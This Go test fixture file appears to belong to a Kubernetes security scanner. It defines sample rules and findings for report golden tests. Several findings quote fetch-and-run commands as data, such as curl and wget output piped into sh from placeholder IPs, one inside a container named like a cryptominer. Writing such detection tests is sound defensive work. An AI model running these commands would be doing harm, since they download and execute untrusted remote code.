package report

import (
	"github.com/jobguard/jobguard/internal/finding"
	"github.com/jobguard/jobguard/internal/rules"
)

// Fixtures: a fixed set of rules and findings, so golden files do not change when rules are added
// to the registry.

var testRules = []*rules.Rule{
	{
		ID: "exec-download-pipe-shell", Category: finding.CategoryExecution, Severity: finding.SeverityCritical,
		Title:       "Download piped into a shell",
		Description: "The container downloads a script and runs it at once, so what runs is decided by whoever controls the URL.",
		Remediation: "Bake the script into the image, or download it, verify its checksum, then run it.",
		Attack:      []string{"T1059.004", "T1105"},
		Mitigations: []string{"M1045"},
	},
	{
		ID: "host-privileged", Category: finding.CategoryHostAccess, Severity: finding.SeverityHigh,
		Title:        "Privileged container",
		Description:  "A privileged container has every capability and the host's devices.",
		Remediation:  "Remove securityContext.privileged.",
		Attack:       []string{"T1611"},
		ThreatMatrix: []string{"MS-TA9018"},
		Mitigations:  []string{"M1026", "M1038"},
	},
	{
		ID: "job-history-disabled", Category: finding.CategoryJobBehaviour, Severity: finding.SeverityLow,
		Title:       "Job history disabled | hidden",
		Description: "The CronJob keeps no finished Jobs, so nobody can see what ran.",
		Remediation: "Keep at least one successful and one failed Job.",
		Attack:      []string{"T1070"},
	},
	{
		ID: "image-latest", Category: finding.CategoryImage, Severity: finding.SeverityMedium,
		Title:       "Image not pinned",
		Description: "The image has no digest, so what runs can change under the same name.",
		Remediation: "Pin the image by digest.",
	},
	{
		ID: "identity-default-sa", Category: finding.CategoryIdentity, Severity: finding.SeverityInfo,
		Title:       "Default service account",
		Description: "The pods run as the namespace's default service account.",
		Remediation: "Give the workload its own service account.",
	},
}

var testCombinations = []rules.Combination{{
	ID:          "history-with-signal",
	Description: "Hiding history next to a download-and-run is treated as an attack.",
	Raises:      []string{"job-history-disabled", "not-a-documented-rule"},
	To:          finding.SeverityCritical,
	PartnerText: "any execution finding",
}}

func ruleFinding(id string) finding.Finding {
	for _, r := range testRules {
		if r.ID == id {
			return finding.Finding{
				Rule: r.ID, Category: r.Category, Severity: r.Severity, Title: r.Title,
				Attack:       append([]string{rules.Technique}, r.Attack...),
				ThreatMatrix: r.ThreatMatrix, Mitigations: r.Mitigations, Remediation: r.Remediation,
			}
		}
	}
	panic("no test rule " + id)
}

func with(f finding.Finding, edit func(*finding.Finding)) finding.Finding {
	edit(&f)
	return f
}

var (
	cronJob       = finding.Resource{APIVersion: "batch/v1", Kind: "CronJob", Namespace: "ops", Name: "cleanup", File: "manifests/ops/cleanup.yaml", Line: 1}
	daemon        = finding.Resource{APIVersion: "apps/v1", Kind: "DaemonSet", Namespace: "kube-system", Name: "node-agent", File: "manifests/agent.yaml", Line: 3}
	live          = finding.Resource{APIVersion: "batch/v1", Kind: "CronJob", Namespace: "default", Name: "miner", Cluster: "prod", UID: "0b7c2d4e-1111-2222-3333-444455556666"}
	clusterScoped = finding.Resource{APIVersion: "v1", Kind: "Pod", Name: "static-thing", File: "/abs/path with space/pod.yaml"}
)

func at(r finding.Resource, path string, line int) finding.Resource {
	r.Path, r.Line = path, line
	return r
}

// testFindings covers every severity, file and cluster objects, suppressions of both kinds, an
// escalation, nil slices, and a message long enough to wrap.
func testFindings() []finding.Finding {
	return []finding.Finding{
		with(ruleFinding("host-privileged"), func(f *finding.Finding) {
			f.Resource = at(daemon, "spec.template.spec.containers[0].securityContext.privileged", 24)
			f.Container = "agent"
			f.Message = `container "agent" runs privileged (securityContext.privileged: true)`
		}),
		with(ruleFinding("exec-download-pipe-shell"), func(f *finding.Finding) {
			f.Resource = at(cronJob, "spec.jobTemplate.spec.template.spec.containers[0].args[0]", 18)
			f.Container = "main"
			f.Message = `container "main" runs "curl -fsSL http://203.0.113.7/x.sh | sh -s -- --quiet --install-dir /var/lib/.cache/updater": a download piped straight into a shell`
		}),
		with(ruleFinding("job-history-disabled"), func(f *finding.Finding) {
			f.Resource = at(cronJob, "spec.failedJobsHistoryLimit", 9)
			f.Severity = finding.SeverityCritical
			f.Message = "failedJobsHistoryLimit is 0 and successfulJobsHistoryLimit is 0"
			f.Escalation = "raised to critical by combination history-with-signal: exec-download-pipe-shell on the same workload"
		}),
		with(ruleFinding("image-latest"), func(f *finding.Finding) {
			f.Resource = at(cronJob, "spec.jobTemplate.spec.template.spec.containers[0].image", 16)
			f.Container = "main"
			f.Message = `container "main" runs image "busybox:latest" without a digest`
			f.Suppressed = true
			f.Suppression = "annotation jobguard.io/ignore: tracked in OPS-42"
		}),
		with(ruleFinding("identity-default-sa"), func(f *finding.Finding) {
			f.Resource = at(daemon, "spec.template.spec.serviceAccountName", 0)
			f.Message = "pods run as service account \"default\""
			f.Mitigations = nil
			f.Attack = nil
		}),
		with(ruleFinding("image-latest"), func(f *finding.Finding) {
			f.Resource = at(live, "spec.jobTemplate.spec.template.spec.containers[0].image", 0)
			f.Container = "xmrig"
			f.Message = `container "xmrig" runs image "docker.io/library/alpine" without a digest`
		}),
		with(ruleFinding("exec-download-pipe-shell"), func(f *finding.Finding) {
			f.Resource = at(live, "spec.jobTemplate.spec.template.spec.containers[0].command", 0)
			f.Container = "xmrig"
			f.Message = `container "xmrig" runs "wget -qO- http://198.51.100.9/m | sh"`
		}),
		with(ruleFinding("host-privileged"), func(f *finding.Finding) {
			f.Resource = at(clusterScoped, "spec.containers[0].securityContext.privileged", 7)
			f.Container = "c"
			f.Message = `container "c" runs privileged`
			f.Suppressed = true
			f.Suppression = "namespace exempt by config (kube-*)"
		}),
		with(ruleFinding("job-history-disabled"), func(f *finding.Finding) {
			f.Resource = at(finding.Resource{APIVersion: "batch/v1", Kind: "CronJob", Namespace: "web", Name: "report", File: "./web/../web/cron.yaml", Line: 2}, "spec.successfulJobsHistoryLimit", 5)
			f.Message = "successfulJobsHistoryLimit is 0"
		}),
	}
}

var testMeta = Meta{
	ToolVersion: "v0.1.0-test",
	Inputs:      []string{"manifests/", "context prod"},
	Errors:      []string{"manifests/broken.yaml:3: yaml: mapping values are not allowed in this context"},
	Resources:   20,
}
